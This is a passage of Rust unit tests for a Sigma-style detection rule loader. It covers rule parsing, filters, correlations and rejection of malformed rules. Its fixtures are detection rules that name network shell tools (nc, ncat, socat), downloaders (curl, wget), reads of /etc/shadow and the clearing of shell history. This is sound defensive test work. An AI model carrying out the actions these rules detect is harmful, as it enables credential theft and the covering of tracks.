    let untagged = json!({"marker": "x"});
    assert_eq!(
        p.hits(untagged),
        [
            "anywhere",
            "linux",
            "linux-auditd",
            "linux-file",
            "linux-proc",
            "proc",
            "windows"
        ]
    );
    let tagged_miss = json!({
        "marker": "y",
        "vigie": {"logsource": {"product": "linux", "category": "process_creation"}},
    });
    assert!(p.hits(tagged_miss).is_empty());
    // Tags compare ignoring case and surrounding blanks, as the rules' logsources do.
    let shouting = json!({
        "marker": "x",
        "vigie": {"logsource": {"product": " Linux", "category": "PROCESS_CREATION "}},
    });
    assert_eq!(
        p.hits(shouting),
        ["anywhere", "linux", "linux-proc", "proc"]
    );
}

// ---------------------------------------------------------------------------------------------
// Loading
// ---------------------------------------------------------------------------------------------

#[test]
fn multi_document_file_loads_every_rule() {
    let p = load_files(&[(
        "pack.yml",
        "
        title: Curl
        id: curl
        level: low
        logsource: {product: linux}
        detection:
          sel: {process.name: curl}
          condition: sel
        ---
        title: Wget
        id: wget
        level: high
        logsource: {product: linux}
        detection:
          sel: {process.name: wget}
          condition: sel
        ",
    )]);
    p.assert_clean();
    assert_eq!(p.report.files, 1);
    assert_eq!(p.report.detection_rules, 2);
    assert_eq!(p.report.loaded, 2);
    let wget = p.set.rule("wget").unwrap();
    assert_eq!(wget.title, "Wget");
    assert_eq!(wget.level, "high");
    assert_eq!(wget.file, p.path("pack.yml"));
    assert_eq!(p.hits(json!({"process": {"name": "wget"}})), ["wget"]);
    assert_eq!(p.hits(json!({"process": {"name": "curl"}})), ["curl"]);
    assert!(p.hits(json!({"process": {"name": "fetch"}})).is_empty());
}

#[test]
fn global_action_is_merged_into_every_document() {
    let p = load_files(&[(
        "collection.yml",
        "
        action: global
        title: Download tool
        logsource: {product: linux, category: process_creation}
        detection:
          filter: {user.name: backup}
          condition: sel and not filter
        level: medium
        ---
        id: dl-curl
        detection:
          sel: {process.name: curl}
        ---
        id: dl-wget
        detection:
          sel: {process.name: wget}
        level: high
        ",
    )]);
    p.assert_clean();
    assert_eq!(p.report.detection_rules, 2);
    assert_eq!(p.set.rule("dl-curl").unwrap().level, "medium");
    assert_eq!(p.set.rule("dl-wget").unwrap().level, "high");
    assert_eq!(p.set.rule("dl-wget").unwrap().title, "Download tool");
    let ev = |name: &str, user: &str| {
        json!({"process": {"name": name}, "user": {"name": user},
               "vigie": {"logsource": {"product": "linux", "category": "process_creation"}}})
    };
    assert_eq!(p.hits(ev("curl", "bob")), ["dl-curl"]);
    assert_eq!(p.hits(ev("wget", "bob")), ["dl-wget"]);
    assert!(p.hits(ev("wget", "backup")).is_empty());
}

#[test]
fn filter_document_excludes_events_from_its_rules_only() {
    let p = load_files(&[
        (
            "rules.yml",
            "
            title: Shadow read
            id: shadow-read
            logsource: {product: linux, category: file_event}
            detection:
              sel: {file.path: /etc/shadow}
              condition: sel
            ---
            title: Shadow touched
            id: shadow-touched
            logsource: {product: linux, category: file_event}
            detection:
              sel: {file.path|contains: shadow}
              condition: sel
            ",
        ),
        (
            "filters.yml",
            "
            title: Backups read the shadow file
            id: filter-backup
            logsource: {product: linux}
            filter:
              rules:
                - shadow-read
              selection:
                host.name: backup01
              condition: not selection
            ",
        ),
    ]);
    p.assert_clean();
    assert_eq!(p.report.filters, 1);
    assert_eq!(p.report.detection_rules, 2);
    assert_eq!(p.report.loaded, 3);
    let ev = |host: &str| {
        json!({"file": {"path": "/etc/shadow"}, "host": {"name": host},
               "vigie": {"logsource": {"product": "linux", "category": "file_event"}}})
    };
    assert_eq!(p.hits(ev("web01")), ["shadow-read", "shadow-touched"]);
    assert_eq!(p.hits(ev("backup01")), ["shadow-touched"]);
}

/// A filter applies to keyword rules too (the ones the keyword gate evaluates on their own).
#[test]
fn filter_document_applies_to_keyword_rules() {
    let p = load_files(&[
        (
            "rules.yml",
            "
            title: History cleared
            id: history-cleared
            logsource: {product: linux}
            detection:
              keywords: ['history -c', 'rm *sh_history']
              condition: keywords
            ",
        ),
        (
            "filters.yml",
            "
            title: The image builder clears its history
            id: filter-builder
            logsource: {product: linux}
            filter:
              rules:
                - history-cleared
              selection:
                host.name: builder01
              condition: not selection
            ",
        ),
    ]);
    p.assert_clean();
    assert_eq!(p.report.filters, 1);
    let ev = |host: &str| json!({"message": "bash: rm ~/.bash_history", "host": {"name": host}});
    assert_eq!(p.hits(ev("web01")), ["history-cleared"]);
    assert!(p.hits(ev("builder01")).is_empty());
}

#[test]
fn correlation_rules_are_kept_and_unknown_references_rejected() {
    let p = load_files(&[
        (
            "auth.yml",
            "
            title: Failed login
            id: failed-login
            name: failed_login
            logsource: {product: linux, service: auth}
            detection:
              sel: {event.outcome: failure}
              condition: sel
            ",
        ),
        (
            "correlations.yml",
            "
            title: Brute force
            id: brute-force
            correlation:
              type: event_count
              rules:
                - failed-login
              group-by:
                - user.name
              timespan: 5m
              condition:
                gte: 10
            level: high
            ---
            title: Brute force on a rule that is not there
            id: brute-force-typo
            correlation:
              type: event_count
              rules:
                - failed-logon
              group-by:
                - user.name
              timespan: 5m
              condition:
                gte: 10
            ",
        ),
    ]);
    assert_eq!(p.report.correlation_rules, 1);
    assert_eq!(p.report.detection_rules, 1);
    let ids: Vec<Option<String>> = p.set.correlations().iter().map(|c| c.id.clone()).collect();
    assert_eq!(ids, [Some("brute-force".to_owned())]);
    assert_eq!(p.set.correlations()[0].rules, ["failed-login"]);
    let rejected = p.rejection("brute-force-typo");
    assert!(rejected.reason.contains("failed-logon"), "{rejected:?}");
    assert_eq!(rejected.file, p.path("correlations.yml"));
    assert_eq!(p.report.rejected.len(), 1, "{:#?}", p.report.rejected);
    // Correlations are not detection rules: an event matches only the base rule.
    assert_eq!(
        p.hits(json!({"event": {"outcome": "failure"}})),
        ["failed-login"]
    );
}

#[test]
fn condition_syntax_error_rejects_that_rule_only() {
    let good = rule_doc("good", "sel: {process.name: nc}\ncondition: sel");
    let bad = rule_doc("bad", "sel: {process.name: ncat}\ncondition: sel and (");
    let p = load_files(&[
        ("a.yml", &format!("{good}---\n{bad}")),
        (
            "b.yml",
            &rule_doc("other", "sel: {process.name: socat}\ncondition: sel"),
        ),
    ]);
    assert_eq!(p.report.rejected.len(), 1, "{:#?}", p.report.rejected);
    let rejected = p.rejection("bad");
    assert_eq!(rejected.file, p.path("a.yml"));
    assert!(
        rejected.reason.to_lowercase().contains("condition"),
        "the reason should say the condition is wrong: {rejected:?}"
    );
    assert_eq!(p.report.detection_rules, 2);
    assert_eq!(p.hits(json!({"process": {"name": "nc"}})), ["good"]);
    assert_eq!(p.hits(json!({"process": {"name": "socat"}})), ["other"]);
    assert!(p.hits(json!({"process": {"name": "ncat"}})).is_empty());
}

#[test]
fn condition_naming_an_undefined_selection_is_rejected_naming_it() {
    let good = rule_doc("good", "sel: {process.name: nc}\ncondition: sel");
    let bad = rule_doc(
        "bad",
        "sel: {process.name: ncat}\ncondition: sel and not fliter",
    );
    let p = load_files(&[("a.yml", &format!("{good}---\n{bad}"))]);
    let rejected = p.rejection("bad");
    assert_eq!(rejected.file, p.path("a.yml"));
    assert!(rejected.reason.contains("fliter"), "{rejected:?}");
    assert_eq!(p.report.detection_rules, 1);
    assert_eq!(p.hits(json!({"process": {"name": "nc"}})), ["good"]);
}

#[test]
fn duplicate_id_is_rejected_and_the_first_file_wins() {
    let p = load_files(&[
        (
            "a.yml",
            &rule_doc("dup", "sel: {process.name: nc}\ncondition: sel"),
        ),
        (
            "b.yml",
            &rule_doc("dup", "sel: {process.name: ncat}\ncondition: sel"),
        ),
    ]);
    assert_eq!(p.report.detection_rules, 1);
    assert_eq!(p.report.rejected.len(), 1, "{:#?}", p.report.rejected);
    let rejected = p.rejection("dup");
    assert_eq!(rejected.file, p.path("b.yml"));
    assert!(rejected.reason.contains("duplicate"), "{rejected:?}");
    assert_eq!(p.set.rule("dup").unwrap().file, p.path("a.yml"));
    assert_eq!(p.hits(json!({"process": {"name": "nc"}})), ["dup"]);
    assert!(p.hits(json!({"process": {"name": "ncat"}})).is_empty());
}

#[test]
fn non_yaml_file_is_rejected_and_the_pack_still_loads() {
    let p = load_files(&[
        (
            "broken.yml",
            "title: 'never closed\ndetection: [: {\n\t- ]]\n",
        ),
        (
            "good.yml",
            &rule_doc("good", "sel: {process.name: nc}\ncondition: sel"),
        ),
    ]);
    assert_eq!(p.report.files, 2);
    assert_eq!(p.report.detection_rules, 1);
    assert_eq!(p.report.rejected.len(), 1, "{:#?}", p.report.rejected);
    let rejected = &p.report.rejected[0];
    assert_eq!(rejected.file, p.path("broken.yml"));
    assert!(
        rejected.reason.to_lowercase().contains("yaml"),
        "{rejected:?}"
    );
    assert_eq!(p.hits(json!({"process": {"name": "nc"}})), ["good"]);
}

#[test]
fn drop_action_from_the_rule_or_the_configuration() {
    let text = [
        "title: Noisy cron\nid: noisy-cron\nvigie:\n  action: drop\ndetection:\n  sel: {process.name: cron}\n  condition: sel\n".to_owned(),
        rule_doc("noisy-by-config", "sel: {process.name: anacron}\ncondition: sel"),
        rule_doc("tagged", "sel: {process.name: nc}\ncondition: sel"),
    ]
    .join("---\n");
    let opts = LoadOptions {
        drop_rules: BTreeSet::from(["noisy-by-config".to_owned()]),
        ..LoadOptions::default()
    };
    let p = load_files_with(&[("r.yml", &text)], &opts);
    p.assert_clean();
    assert_eq!(p.set.rule("noisy-cron").unwrap().action, Action::Drop);
    assert_eq!(p.set.rule("noisy-by-config").unwrap().action, Action::Drop);
    assert_eq!(p.set.rule("tagged").unwrap().action, Action::Tag);
    let hit = p.set.evaluate_value(&json!({"process": {"name": "cron"}}));
    assert_eq!(hit.len(), 1);
    assert_eq!(hit[0].action, Action::Drop);
}
